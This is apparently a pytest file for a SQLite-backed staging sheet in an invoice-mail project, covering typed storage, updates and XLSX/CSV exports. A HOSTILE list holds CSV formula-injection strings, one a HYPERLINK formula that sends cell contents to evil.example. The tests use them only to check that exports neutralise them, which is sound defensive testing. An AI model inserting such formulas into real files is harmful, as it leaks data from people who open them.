"""SqliteStagingSheet on a real SQLite file, and its .xlsx/.csv exports read back for real."""

import csv
import sqlite3
from contextlib import closing
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from mailroom.adapters.local.sheet import SqliteStagingSheet
from mailroom.domain.errors import BadInputError, NotFoundError, PermanentError
from mailroom.domain.models import StagedRow
from mailroom.domain.status import Status
from mailroom.ports import StagingSheet

# Text a stranger can put in a mail or a PDF, that a spreadsheet would run as a formula.
HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+2", "-3+4", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1"]


def row(key: str, **values: object) -> StagedRow:
    return StagedRow(key=key, status=Status.EXTRACTED, **values)  # type: ignore[arg-type]


TYPED = row(
    "doc-1", document_type="invoice", invoice_number="F-0001", issue_date=date(2026, 1, 31),
    seller_name="Müller & Söhne GmbH", currency="EUR", net_total=Decimal("1000.10"),
    tax_total=Decimal("190.02"), grand_total=Decimal("1190.12"), min_confidence=0.875,
    received_at=datetime(2026, 2, 1, 8, 30, tzinfo=UTC),
)


@pytest.fixture
def sheet(tmp_path: Path) -> SqliteStagingSheet:
    return SqliteStagingSheet(tmp_path / "sheet.sqlite")


def test_the_sqlite_sheet_implements_the_staging_sheet_port(sheet):
    assert isinstance(sheet, StagingSheet)


def test_the_table_has_the_row_models_columns_in_order_after_the_row_order(sheet, tmp_path):
    with closing(sqlite3.connect(tmp_path / "sheet.sqlite")) as conn:
        columns = [column[1] for column in conn.execute("PRAGMA table_info(staged_rows)")]

    assert columns == ["row_order", *StagedRow.columns()]


def test_values_are_stored_typed_and_read_back_unchanged(sheet, tmp_path):
    sheet.stage([TYPED])

    assert sheet.get("doc-1") == TYPED
    assert str(sheet.get("doc-1").tax_total) == "190.02"  # type: ignore[union-attr]
    with closing(sqlite3.connect(tmp_path / "sheet.sqlite")) as conn:
        stored = conn.execute(
            "SELECT typeof(min_confidence), grand_total, issue_date FROM staged_rows"
        ).fetchone()
    assert stored == ("real", "1190.12", "2026-01-31")


def test_staging_adds_only_missing_keys_and_never_overwrites_a_row(sheet):
    sheet.stage([row("doc-1"), row("doc-2")])
    sheet.update({"doc-1": {"note": "checked with the vendor", "status": Status.APPROVED}})

    added = sheet.stage([row("doc-1", note="staged again by a redelivery"), row("doc-3"),
                         row("doc-3")])

    assert added == ["doc-3"]
    assert sheet.get("doc-1").note == "checked with the vendor"  # type: ignore[union-attr]
    assert [r.key for r in sheet.rows()] == ["doc-1", "doc-2", "doc-3"]


def test_rows_come_in_staging_order_and_filter_by_status(sheet):
    sheet.stage([row("doc-b"), row("doc-a"), row("doc-c")])
    sheet.update({"doc-a": {"status": Status.APPROVED}, "doc-c": {"status": Status.ERROR}})

    assert [r.key for r in sheet.rows()] == ["doc-b", "doc-a", "doc-c"]
    assert [r.key for r in sheet.rows([Status.APPROVED, Status.ERROR])] == ["doc-a", "doc-c"]
    assert sheet.get("doc-x") is None


def test_an_update_parses_values_and_applies_all_keys_or_none(sheet):
    sheet.stage([row("doc-1"), row("doc-2")])

    sheet.update({"doc-1": {"grand_total": "12.30", "issue_date": "2026-03-01"}})
    with pytest.raises(NotFoundError):
        sheet.update({"doc-2": {"note": "lost"}, "doc-missing": {"note": "x"}})

    assert sheet.get("doc-1").grand_total == Decimal("12.30")  # type: ignore[union-attr]
    assert sheet.get("doc-1").issue_date == date(2026, 3, 1)  # type: ignore[union-attr]
    assert sheet.get("doc-2").note == ""  # type: ignore[union-attr]


@pytest.mark.parametrize("changes, error", [
    ({"no_such_column": "x"}, PermanentError),
    ({"key": "doc-2"}, PermanentError),
    ({"issue_date": "next tuesday"}, BadInputError),
], ids=["unknown-column", "key-column", "bad-value"])
def test_an_update_that_does_not_fit_the_row_is_refused(sheet, changes, error):
    sheet.stage([row("doc-1")])

    with pytest.raises(error):
        sheet.update({"doc-1": changes})
    assert sheet.get("doc-1") == row("doc-1")


def test_the_xlsx_export_keeps_numbers_and_dates_typed_and_hostile_text_as_text(sheet, tmp_path):
    sheet.stage([TYPED, *(row(f"doc-h{n}", seller_name=text) for n, text in enumerate(HOSTILE)),
                 row("doc-bell", seller_name="ding\x07dong")])

    sheet.export_xlsx(tmp_path / "staging.xlsx")

    workbook = openpyxl.load_workbook(tmp_path / "staging.xlsx")
    sheet_ = workbook.active
    header = [cell.value for cell in sheet_[1]]
    assert header == StagedRow.columns()
    assert sheet_.freeze_panes == "A2" and sheet_.auto_filter.ref == sheet_.dimensions
    typed = {name: cell for name, cell in zip(header, sheet_[2], strict=True)}
    assert typed["grand_total"].data_type == "n"
    assert typed["grand_total"].value == pytest.approx(1190.12)
    assert typed["issue_date"].is_date and typed["issue_date"].value == datetime(2026, 1, 31)
    assert typed["received_at"].value == datetime(2026, 2, 1, 8, 30)  # UTC, as Excel has no zones
    assert typed["seller_name"].value == "Müller & Söhne GmbH"
    for line, text in enumerate(HOSTILE, start=3):
        cell = sheet_.cell(row=line, column=header.index("seller_name") + 1)
        assert (cell.data_type, cell.value) == ("s", text)
    # XML cannot hold most control characters: they become U+FFFD instead of failing the export.
    bell = sheet_.cell(row=sheet_.max_row, column=header.index("seller_name") + 1)
    assert bell.value == "ding\ufffddong"
    workbook.close()


def test_the_csv_export_neutralises_formula_text_but_not_negative_amounts(sheet, tmp_path):
    credit_note = row("doc-cn", document_type="credit_note", grand_total=Decimal("-12.00"),
                      subject="=1+1", seller_name="ACME")
    hostile = [row(f"doc-h{n}", seller_name=text) for n, text in enumerate(HOSTILE)]
    sheet.stage([credit_note, *hostile])

    sheet.export_csv(tmp_path / "staging.csv")

    with (tmp_path / "staging.csv").open(newline="", encoding="utf-8-sig") as file:
        header, *lines = list(csv.reader(file))
    assert header == StagedRow.columns()
    exported = [dict(zip(header, line, strict=True)) for line in lines]
    assert exported[0]["grand_total"] == "-12.00" and exported[0]["subject"] == "'=1+1"
    assert exported[0]["seller_name"] == "ACME" and exported[0]["issue_date"] == ""
    assert [line["seller_name"] for line in exported[1:]] == ["'" + text for text in HOSTILE]


def test_an_export_replaces_the_previous_file_whole(sheet, tmp_path):
    (tmp_path / "staging.csv").write_text("a stale export, longer than the new one\n" * 100)
    sheet.stage([row("doc-1")])

    sheet.export_csv(tmp_path / "staging.csv")

    assert "stale" not in (tmp_path / "staging.csv").read_text(encoding="utf-8-sig")
    assert sorted(p.name for p in tmp_path.iterdir() if "staging" in p.name) == ["staging.csv"]
